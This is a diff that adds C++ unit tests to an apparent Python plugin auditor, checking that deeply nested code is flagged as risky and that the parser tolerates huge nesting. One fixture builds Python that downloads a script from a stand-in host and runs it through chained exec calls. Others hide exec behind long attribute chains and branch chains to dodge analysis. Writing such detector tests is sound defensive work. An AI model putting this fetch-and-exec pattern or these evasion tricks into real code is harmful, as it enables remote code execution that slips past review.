@@ -115,6 +115,38 @@ TEST(BundleAudit, IsNotDeceivedByModulesThatAreCalledLikeOthers) {
   EXPECT_GT(report->whole.security_risk.value, 0.7);
 }
 
+// Python runs what is nested this deeply; the auditor does not look so far, and says so.
+TEST(BundleAudit, IsNotSureOfWhatIsNestedTooDeeply) {
+  std::string attributes, negations, branches = "if a:\n  b\n";
+  for (int i = 0; i < 900; ++i) {
+    attributes += ".a";
+    negations += "-";
+  }
+  for (int i = 0; i < 70'000; ++i) branches += "elif a:\n  b\n";
+  std::string calls = "import urllib3\ndef f0(x):\n  exec(x)\n";
+  for (int i = 1; i < 400; ++i) {
+    calls += "def f" + std::to_string(i) + "(x):\n  f" + std::to_string(i - 1) + "(x)\n";
+  }
+  calls += "f399(urllib3.PoolManager().request('GET', 'https://plugins.example/watch.py').data)\n";
+  for (const std::string& source :
+       {"x = exec(y)" + attributes + "\n", "x = " + negations + "exec(y)\n", branches, calls}) {
+    const auto report = audit_files({{"watch.py", source}}, "night-watch");
+    ASSERT_TRUE(report) << report.error().message;
+    EXPECT_EQ(check_risk(*report, 0.7).error().code, Code::kTooRisky);
+  }
+}
+
+// A parser that counts children with 16 bits writes over others' memory.
+TEST(BundleAudit, TakesAnyNumberOfBrothers) {
+  std::string brackets = "x = ", comments;
+  for (int i = 0; i < 70'000; ++i) {
+    brackets += "(";
+    comments += "#\n";
+  }
+  EXPECT_TRUE(audit_files({{"watch.py", brackets}}, "night-watch"));
+  EXPECT_TRUE(audit_files({{"watch.py", comments}}, "night-watch"));
+}
+
 // By the rules of whoever verifies: what the manifest says of the risk is not believed.
 TEST(BundleAudit, ExaminesTheFilesThatWereVerified) {
   const trust::PrivateKey key = trust::key('a');
